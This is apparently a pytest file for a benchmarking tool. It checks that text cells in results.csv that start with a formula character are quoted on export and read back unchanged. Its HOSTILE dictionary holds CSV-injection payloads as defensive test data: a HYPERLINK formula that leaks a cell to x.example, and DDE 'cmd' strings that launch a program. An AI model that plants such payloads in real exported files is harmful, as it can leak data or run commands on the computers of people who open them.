"""results.csv never hands a spreadsheet a formula (issue 61, item 9), and the project reads back what it wrote.

A host name or a reason comes from the run (a node's name, a rank's error text): one that starts with
"=", "+", "-", "@", a tab or a CR is a formula to a spreadsheet opening the file. Recording a run writes
such a text cell with a leading quote (OWASP's rule); the project's own CSV reader (`bench project`,
`bench results`) drops exactly that quote, so each cell reads back as it was.
"""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd

from bench.analysis.frame import FORMULA_STARTS, read_csv, read_results_csv
from bench.analysis.projection.inputs import read_results
from bench.analysis.verdict.evaluate import Evaluation
from bench.config.models import SweepConfig, TrainConfig
from bench.store.db import ResultsStore
from bench.suite.plan import suite_dir
from bench.suite.record import record
from tests.bench.store.test_store import frame

# Text a run can carry, per text column of the results frame; one formula start each, and the quote itself.
HOSTILE = {
    "slow_node": '=HYPERLINK("http://x.example/?leak="&A1,"gpu-07")',
    "reason": "+cmd|' /C calc'!A0",
    "bandwidth_note": "-2+3+cmd|' /C calc'!A0",
    "drop_caches": "@SUM(1+1)*cmd|' /C calc'!A0",
    "bytes_source": "\t=1+1",
    "config_key": "\r=1+1",
    "launcher": "'=already quoted by its author",
}
PLAIN = {"cluster": "c", "state": "COMPLETED"}  # text no spreadsheet runs: written as it is


def hostile_run(tmp_path: Path) -> tuple[Path, pd.DataFrame]:
    """A run recorded with hostile text in its rows and a negative figure; its folder and its frame."""
    data = str(tmp_path / "data")
    cfg = SweepConfig(
        dataset_path=data, train=TrainConfig(workload="ssd", data=data, steps=6), output_dir=str(tmp_path), cluster="c"
    )
    f = frame("hostile", 100.0, "2026-01-05T00:00:00+00:00").assign(baseline_gpus=1, verdict="FAILED", slots="[]")
    f = f.assign(**HOSTILE, comm_share=[-0.5, np.nan])  # a negative number is a number, not a formula
    store = ResultsStore(f"sqlite:///{tmp_path}/results.db")
    record(cfg, "hostile", Evaluation(frame=f, passed=False, failures=[], warnings=[], data_docs=None), [], "", store)
    store.engine.dispose()
    return suite_dir(Path(cfg.output_dir), "hostile"), f


def test_a_formula_in_a_text_cell_is_written_quoted_and_reads_back_as_it_was(tmp_path):
    out, f = hostile_run(tmp_path)
    with open(out / "results.csv", newline="") as text:
        raw = list(csv.DictReader(text))
    assert len(raw) == 2, "a cell's CR started a row of its own"
    for row in raw:  # what a spreadsheet sees
        for col, text in HOSTILE.items():
            assert row[col] == "'" + text, (col, row[col])
        assert all(not cell.startswith(FORMULA_STARTS) for col, cell in row.items() if col not in ("comm_share",))
        assert {col: row[col] for col in PLAIN} == PLAIN
    assert raw[0]["comm_share"] == "-0.5"

    back = read_csv(out / "results.csv")  # what every CSV reader of the project starts from
    for col, text in (HOSTILE | PLAIN).items():
        assert back[col].tolist() == [text, text], col
    assert back["comm_share"].iloc[0] == -0.5

    projected, _ = read_results(out)  # `bench project <run folder>`
    assert projected["slow_node"].tolist() == f["slow_node"].tolist()
    assert projected["reason"].tolist() == f["reason"].tolist()


def test_a_users_table_with_formula_text_reads_as_written(tmp_path):
    """`bench results evaluate` on a table the user wrote: a cell they quoted the spreadsheet way ("'=x")
    reads as the spreadsheet shows it ("=x"); any other text, a leading quote included, as it is."""
    table = tmp_path / "table.csv"
    table.write_text("model,gpus,throughput_img_s,note\n'=ssd,1,100,'=x\n'=ssd,2,190,'quote kept\n")
    back = read_results_csv(table)
    assert back["workload"].tolist() == ["=ssd", "=ssd"]
    assert back["note"].tolist() == ["=x", "'quote kept"]
